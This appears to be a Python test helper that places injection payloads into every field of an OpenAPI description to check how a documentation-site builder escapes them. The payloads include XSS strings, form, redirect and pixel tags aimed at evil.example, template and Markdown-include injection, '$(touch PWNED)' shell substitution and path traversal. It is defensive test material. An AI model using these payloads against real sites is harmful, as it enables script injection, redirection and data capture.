"""A description in which every text field says what it is told to, for tests of what becomes of it."""

import json
from pathlib import Path
from typing import Any

from commands import Project

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "closes all": "</code></pre></td></table></div></section></article></main></html><script>1</script>",
    "closes a title": "</title></textarea></noscript></style><img src=x onerror=alert(1)>",
    "attribute": "\"'><svg/onload=alert(1)><a href=javascript:alert(1) x=\"' onmouseover=alert(1) style=x:y",
    "tags": "<iframe srcdoc='<script>1</script>'></iframe><base href=//evil.example><meta http-equiv=refresh "
    "content='0;url=//evil.example'><link rel=stylesheet href=//evil.example><object data=//evil.example>",
    "form": "<form action=//evil.example><input name=p formaction=//evil.example><button>Go</button></form>",
    "style": "<style>@import '//evil.example';*{display:none}</style><p style='top:0' class='md-overlay'>x",
    "address": "javascript:alert(1)//<",
    "Markdown links": "[a](javascript:alert(1)) ![i](//evil.example/x.png) <javascript:alert(1)> [b]: data:x",
    "autolink": 'https://evil.example/"onclick=alert(1) ![x](https://evil.example/pixel.png)',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&gt;",
    "Jinja": "{{ 7 * 191 }} {% for x in range(3) %}RAN{% endfor %} {# gone #} {{ config }} {{ f() }}",
    "other templates": "${7*191} #{7*191} <%= 7*191 %> {{constructor.constructor('alert(1)')()}}",
    "snippet": '--8<-- "mkdocs.yml"',
    "snippets": '--8<--\nmkdocs.yml\n--8<--\n; --8<-- "mkdocs.yml"',
    "directive": "::: sdkref GET /a",
    "mkdocstrings": "::: os.path\n    options: {show_source: true}",
    "attribute list": "x {: #evil .md-overlay onclick=alert(1) style=display:none }\n{: onclick=alert(1) }",
    "Markdown in HTML": '<div markdown="1" onclick="alert(1)">\n**x**\n</div>',
    "abbreviation": "x\n\n*[API]: replaced everywhere\n*[a]: replaced",
    "blocks": '!!! danger "x"\n    y\n\n??? note\n    z\n\n=== "Tab"\n\n    t\n\n[TOC]\n\n[^1]: note',
    "open fence": "```\nnever closed ~~~ `` ` <!-- never closed <![CDATA[ <?php",
    "front matter": "---\ntemplate: ../../x.html\ntitle: taken\n---\n# Heading {#evil}\nSetext\n===",
    "stash": "\x02klzzwxh:0000\x03 wzxhzdk:0 \x02amp\x03 \x00 \x1b[31m",
    "marker": '<div data-sdkref="t o:get-a 1"></div> data-sdkref \ue000o:get-a\ue000 \ufdd0o:get-a\ufdd0',
    "separators": "a\u2028b\u2029c\u0085d\u202egnp\u2066x\ufeff\ud7ff\U0001f9ea\x7f\r\n\te",
    "code": "';\"`*/\\n$(touch PWNED) `touch PWNED` %s \\u0022 \\ #{1} ${x} //\n*/ 'EOF'\nEOF\n\"\"\" ''' \\",
    "path": "../../../PWNED/..\\..\\PWNED/%2e%2e/C:\\PWNED",
    "long": "W" * 700,
}
"""Texts that some interpreter on the way to a page could take for more than text."""

MARKED = (
    *("Jinja", "snippets", "directive", "attribute list", "Markdown in HTML"),
    *("abbreviation", "blocks", "front matter", "stash", "marker"),
)
"""Payloads that Markdown, its extensions and plugins of a site read as more than text."""

PLAIN = "plain words"


def described(payload: str) -> dict[str, Any]:
    """Return a description with the payload in each text that it may hold.

    A word that says where it stood follows it: `text-tag.` in a text of paragraphs, `name-tag` in a name.
    """

    def text(field: str) -> str:
        return f"{payload}\n\ntext-{field}."

    def name(field: str) -> str:
        return f"{payload} name-{field}"

    schema = {
        "type": "object",
        "title": name("schema-title"),
        "description": text("schema-description"),
        "required": [name("property-name")],
        "properties": {
            name("property-name"): {
                "type": "string",
                "description": text("property-description"),
                "enum": [name("enum-value"), "b"],
                "x-enum-varnames": [name("enum-varname"), "B"],
                "x-enum-descriptions": [text("enum-description"), "b"],
                "default": name("default"),
                "example": name("example"),
            },
            "plain": {"type": "string", "pattern": name("pattern"), "format": name("format")},
            "other": {"$ref": f"#/components/schemas/{pointer(name('other-schema'))}"},
        },
        "externalDocs": {"url": payload, "description": text("schema-docs")},
        "example": {name("property-name"): name("enum-value"), name("extra-key"): name("extra-value")},
    }
    variants = {
        "oneOf": [
            {"type": "string", "const": name("const")},
            {"$ref": f"#/components/schemas/{pointer(name('schema-name'))}"},
        ],
        "description": text("other-description"),
        "discriminator": {
            "propertyName": name("discriminator"),
            "mapping": {name("mapped"): f"#/components/schemas/{pointer(name('schema-name'))}"},
        },
    }
    operation = {
        "operationId": name("operation-id"),
        "summary": name("summary"),
        "description": text("operation-description"),
        "tags": [name("tag")],
        "deprecated": True,
        "x-deprecated-description": text("deprecation"),
        "x-stability": name("stability"),
        "externalDocs": {"url": payload, "description": text("operation-docs")},
        "parameters": [
            {
                "name": name("query"),
                "in": "query",
                "description": text("query-description"),
                "schema": {"type": "string", "default": name("query-default"), "enum": [name("query-enum")]},
                "examples": {
                    name("example-name"): {
                        "summary": name("example-summary"),
                        "description": text("example-description"),
                        "value": name("example-value"),
                    }
                },
            },
            {"name": name("header"), "in": "header", "required": True, "schema": {"type": "string"}},
            {"name": name("cookie"), "in": "cookie", "schema": {"type": "string"}},
        ],
        "requestBody": {
            "description": text("body-description"),
            "content": {
                "application/json": {
                    "schema": {"$ref": f"#/components/schemas/{pointer(name('schema-name'))}"},
                    "examples": {
                        name("body-example"): {
                            "summary": name("body-summary"),
                            "value": {name("property-name"): name("body-value")},
                        }
                    },
                },
                name("media-type"): {"schema": {"type": "string", "example": name("media-example")}},
            },
        },
        "responses": {
            "200": {
                "description": text("response-description"),
                "headers": {
                    name("response-header"): {
                        "description": text("response-header-description"),
                        "schema": {"type": "string"},
                    }
                },
                "content": {
                    "application/json": {
                        "schema": {"$ref": f"#/components/schemas/{pointer(name('other-schema'))}"},
                        "example": name("response-example"),
                    }
                },
                "links": {
                    name("link"): {"operationId": name("operation-id"), "description": text("link-text")}
                },
            },
            "404": {
                "description": text("error-description"),
                "content": {name("error-type"): {"schema": {"type": "object"}}},
            },
        },
        "callbacks": {name("callback"): {f"{{$request.body#/{payload}}}": {"post": {"responses": {}}}}},
        "security": [{name("scheme"): [name("scope")]}, {name("key-scheme"): []}],
        "servers": [
            {
                "url": f"https://api.example/{payload}/{{v}}",
                "description": text("server-description"),
                "variables": {
                    "v": {
                        "default": name("server-default"),
                        "enum": [name("server-default"), name("server-enum")],
                        "description": text("variable-description"),
                    }
                },
            },
            {"url": payload},
        ],
        "x-codeSamples": [
            {"lang": language, "label": name("label"), "source": f"{payload}\nname-source"}
            for language in ("TypeScript", "Go", "Python", "Shell", name("lang"))
        ],
        "x-oaiMeta": {"name": name("meta-name"), "examples": {"request": {"python": f"{payload} name-meta"}}},
    }
    plain = {
        "summary": "Plain after all",
        "tags": [name("tag")],
        "responses": {"200": {"description": "ok"}},
    }
    return {
        "openapi": "3.1.0",
        "info": {
            "title": name("title"),
            "version": name("version"),
            "summary": name("info-summary"),
            "description": text("info-description"),
            "termsOfService": payload,
            "contact": {"name": name("contact"), "url": payload, "email": payload},
            "license": {"name": name("license"), "url": payload, "identifier": payload},
        },
        "externalDocs": {"url": payload, "description": text("docs-description")},
        "tags": [
            {
                "name": name("tag"),
                "x-displayName": name("tag-title"),
                "description": text("tag-description"),
                "externalDocs": {"url": payload, "description": text("tag-docs")},
            }
        ],
        "servers": [{"url": payload, "description": text("api-server")}],
        "paths": {
            "/a": {"post": operation, "get": plain},
            f"/b/{payload.replace('{', '(').replace('}', ')')}": {"get": plain},
        },
        "webhooks": {name("webhook"): {"post": {**plain, "description": text("webhook-description")}}},
        "components": {
            "schemas": {
                name("schema-name"): schema,
                name("other-schema"): variants,
                "After": {"type": "object", "description": "After all."},
            },
            "securitySchemes": {
                name("scheme"): {
                    "type": "oauth2",
                    "description": text("scheme-description"),
                    "flows": {
                        "authorizationCode": {
                            "authorizationUrl": payload,
                            "tokenUrl": payload,
                            "refreshUrl": payload,
                            "scopes": {name("scope"): text("scope-description")},
                        }
                    },
                },
                name("key-scheme"): {"type": "apiKey", "in": "header", "name": name("key-header")},
                name("http-scheme"): {
                    "type": "http",
                    "scheme": name("http-kind"),
                    "bearerFormat": name("format"),
                },
                name("openid"): {"type": "openIdConnect", "openIdConnectUrl": payload},
            },
        },
    }


def pointer(name: str) -> str:
    """Return a name as a token of a reference."""
    return name.replace("~", "~0").replace("/", "~1")


def built(project: Project, description: dict[str, Any]) -> Path:
    """Return the site of a description, which the public command builds."""
    path = project.write("openapi.json", json.dumps(description))
    ended = project.run("build", path.name)
    assert ended.code == 0, ended.err
    assert {each.name for each in project.folder.iterdir()} == {"openapi.json", "site"}
    return project.site
